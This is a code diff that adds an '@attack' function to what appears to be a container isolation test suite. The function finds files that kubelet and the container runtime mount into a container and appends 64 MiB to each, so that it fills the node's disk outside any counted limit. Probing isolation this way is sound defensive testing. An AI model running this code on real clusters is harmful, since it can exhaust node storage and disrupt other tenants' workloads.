@@ -3,6 +3,7 @@
 import mmap
 import os
 import socket
+import stat
 import struct
 from pathlib import Path
 
@@ -99,3 +100,24 @@ def the_pilots_kernel_objects() -> list[str]:
         paths = [f"{folder}/{one}" for one in os.listdir(folder)]
         gained += [path for path in paths if os.stat(path).st_uid != os.getuid() and os.access(path, os.R_OK)]
     return gained
+
+
+@attack
+def kubelets_files() -> list[str]:
+    """Fill what kubelet and runtime mount for a container: files on the node's disk, which no limit counts."""
+    points = {line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()}
+    assert "/etc/hosts" in points
+    places = sorted({*points, "/dev/termination-log"})
+    files = [path for path in places if not os.path.exists(path) or _is_file(path)]
+    return tries(*((path, _filled, path) for path in files))
+
+
+def _is_file(path: str) -> bool:
+    return stat.S_ISREG(os.stat(path).st_mode)
+
+
+def _filled(path: str) -> None:
+    descriptor = os.open(path, os.O_WRONLY | os.O_APPEND)
+    for _ in range(64):
+        os.write(descriptor, bytes(2**20))
+    os.close(descriptor)
